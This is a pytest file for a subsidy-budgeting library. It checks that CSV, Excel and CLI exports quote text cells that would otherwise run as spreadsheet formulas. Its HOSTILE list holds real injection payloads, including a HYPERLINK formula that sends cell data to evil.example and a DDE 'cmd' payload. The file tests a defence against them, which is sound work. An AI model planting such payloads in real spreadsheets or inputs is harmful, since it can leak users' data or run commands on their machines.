"""Issue 18, "CSV/Excel formula injection": a key or reform name starting with ``=``, ``+``, ``-`` or ``@`` reached
CSV and Excel exports as a live formula.

Every text cell of every export (``to_csv``, ``write_csv``, ``to_excel`` and the CSV the CLI writes) now starts
with a single quote when it would start a formula (OWASP's rule: ``=``, ``+``, ``-``, ``@``, tab, carriage
return; here also NUL, line feed and the full-width forms), while amounts and counts stay numbers (``-5.00``
is a negative number, not text). A DataFrame keeps its values as they are (it is data, not a spreadsheet).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from decimal import Decimal
from pathlib import Path

import pytest

import tuoyu_rules as tr
from tuoyu_rules.cli import main
from tuoyu_rules.io.export import Table, csv_cell, formula_safe, to_csv, to_dataframe, to_excel, write_csv
from tuoyu_rules.whatif import budget, read_jsonl

ON = dt.date(2024, 6, 1)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|'/c calc'!A1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
)
"""Text cells a spreadsheet would run as formulas (the last is the full-width equals sign)."""

FACILITY = {"jurisdiction": "xiamen", "mode": "self_run", "self_built": True, "places": 30, "enrolled": 20}


class _Tables:
    """A result laying itself out as the given tables (:class:`tuoyu_rules.io.Exportable`)."""

    def __init__(self, *tables: Table) -> None:
        self._tables = tables

    def export_tables(self) -> tuple[Table, ...]:
        return self._tables


def _hostile_table() -> Table:
    return Table("t", ("name", "low", "count"), (*((text, Decimal("-5.00"), -3) for text in HOSTILE), ("ok", None, 0)))


def _live(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def _reform(name: str) -> tr.Reform:
    return tr.Reform.from_dict(
        {
            "name": name,
            "description": "hostile",
            "parameters": {"xiamen.operating_subsidy.amount": [{"kind": "range", "low": "20000", "high": "30000"}]},
        }
    )


def _hostile_budget() -> tr.Budget:
    """A budget whose reform name and a bad row's key would be formulas."""
    bad_row = {**FACILITY, HOSTILE[0]: 1}  # an unknown key: a row error naming that key
    rows = read_jsonl(io.StringIO(json.dumps(FACILITY) + "\n" + json.dumps(bad_row) + "\n"))
    return budget(rows, on=ON, reforms=[_reform(HOSTILE[1])], errors="collect")


def test_formula_safe_quotes_exactly_the_formula_starts() -> None:
    for text in HOSTILE:
        assert formula_safe(text) == "'" + text
    for start in FORMULA_STARTS:
        assert formula_safe(start + "x") == "'" + start + "x"
    for text in ("", "xiamen", "厦门", "1=1", " =1", "'=already quoted", "50000.00"):
        assert formula_safe(text) == text


def test_csv_quotes_text_cells_and_keeps_numbers_numbers() -> None:
    rows = list(csv.reader(io.StringIO(to_csv(_Tables(_hostile_table())), newline="")))
    assert rows[0] == ["name", "low", "count"]
    assert rows[1:] == [["'" + text, "-5.00", "-3"] for text in HOSTILE] + [["ok", "", "0"]]
    assert csv_cell(Decimal("-5")) == "-5.00"
    assert csv_cell(-3) == "-3"
    assert csv_cell("-3") == "'-3"  # text that looks like a number is still text


def test_a_carriage_return_inside_a_cell_cannot_start_a_row() -> None:
    """Python 3.11's csv module leaves a cell holding a lone CR unquoted: a reader then starts a new row there."""
    table = Table("t", ("name", "low"), (("x\r=1+1", Decimal("1")), ("y", Decimal("2"))))
    rows = list(csv.reader(io.StringIO(to_csv(_Tables(table)), newline="")))
    assert rows == [["name", "low"], ["x\r=1+1", "1.00"], ["y", "2.00"]]


def test_several_tables_in_one_csv_are_quoted_too() -> None:
    stream = io.StringIO()
    write_csv(_Tables(_hostile_table(), Table("u", ("=head",), (("@x",),))), stream)
    cells = [c for row in csv.reader(io.StringIO(stream.getvalue(), newline="")) for c in row]
    assert "'=head" in cells
    assert "'@x" in cells
    assert "-5.00" in cells
    assert not [c for c in cells if _live(c) and c not in ("-5.00", "-3")]


def test_a_budget_with_a_hostile_reform_and_key_exports_no_live_formula() -> None:
    b = _hostile_budget()
    assert b.error_count == 1
    rows = list(csv.reader(io.StringIO(to_csv(b), newline="")))
    cells = [c for row in rows for c in row]
    assert "'" + HOSTILE[1] in cells  # the reform's name, as scenario and reform
    assert any(c.startswith("'" + HOSTILE[0]) for c in cells)  # the bad row's key, in row_errors
    live = [c for c in cells if _live(c)]
    assert live == [c for c in live if c.startswith("-") and Decimal(c) < 0]  # only negative numbers


def test_excel_cells_are_text_or_numbers_never_formulas(tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    path = to_excel(_Tables(_hostile_table(), Table("u", ("x",), (("ctrl\x1b[31m\x00",),))), tmp_path / "t.xlsx")
    wb = openpyxl.load_workbook(path)
    ws = wb["t"]
    values = [[c.value for c in row] for row in ws.iter_rows(min_row=2)]
    # (XML reads a carriage return back as a line feed: the cell is still text, quoted)
    assert [v[0] for v in values] == [("'" + text).replace("\r", "\n") for text in HOSTILE] + ["ok"]
    assert all(Decimal(str(v[1])) == Decimal("-5") and v[2] == -3 for v in values[:-1])  # numbers, not text
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                assert not (isinstance(cell.value, str) and _live(cell.value)), cell.value
    assert wb["u"]["A2"].value == "ctrl\\x1b[31m\\x00"  # XML cannot hold these: shown, not a crash


def test_excel_of_a_hostile_budget_has_no_formula(tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    wb = openpyxl.load_workbook(to_excel(_hostile_budget(), tmp_path / "b.xlsx"))
    texts = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert "'" + HOSTILE[1] in texts
    assert not [t for t in texts if _live(t)]
    assert all(c.data_type != "f" for ws in wb.worksheets for row in ws.iter_rows() for c in row)


def test_a_dataframe_keeps_the_values_as_they_are() -> None:
    """Documented: a DataFrame is data, not a spreadsheet; only the CSV and Excel writers quote."""
    pytest.importorskip("pandas")
    df = to_dataframe(_hostile_budget(), table="by_payer")
    assert HOSTILE[1] in set(df["scenario"])
    assert formula_safe(HOSTILE[1]) not in set(df["scenario"])


def _run(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    status = main(list(argv), stdout=out, stderr=err, stdin=io.StringIO(""))
    return status, out.getvalue(), err.getvalue()


def _hostile_files(tmp_path: Path) -> tuple[Path, Path, Path]:
    reform = tmp_path / "reform.json"
    reform.write_text(
        json.dumps(
            {
                "name": HOSTILE[1],
                "description": "hostile",
                "parameters": {"xiamen.operating_subsidy.amount": [{"kind": "range", "low": "20000", "high": "30000"}]},
            }
        ),
        encoding="utf-8",
    )
    portfolio = tmp_path / "p.jsonl"
    portfolio.write_text(json.dumps(FACILITY) + "\n" + json.dumps({**FACILITY, HOSTILE[0]: 1}) + "\n", encoding="utf-8")
    facility = tmp_path / "f.json"
    facility.write_text(json.dumps(FACILITY), encoding="utf-8")
    return reform, portfolio, facility


def test_the_cli_csv_of_budget_and_whatif_has_no_live_formula(tmp_path: Path) -> None:
    reform, portfolio, facility = _hostile_files(tmp_path)
    for argv in (
        ("budget", str(portfolio), "--on", "2024-06-01", "--reform", str(reform), "--errors", "collect"),
        ("whatif", str(facility), "--on", "2024-06-01", "--reform", str(reform)),
    ):
        status, out, err = _run(*argv, "--format", "csv")
        assert (status, err) == (0, ""), argv
        cells = [c for row in csv.reader(io.StringIO(out, newline="")) for c in row]
        assert "'" + HOSTILE[1] in cells, argv
        assert not [c for c in cells if _live(c) and not c.startswith("-")], argv
        assert not [c for c in cells if c.startswith("-") and not c[1:].replace(".", "").isdigit()], argv
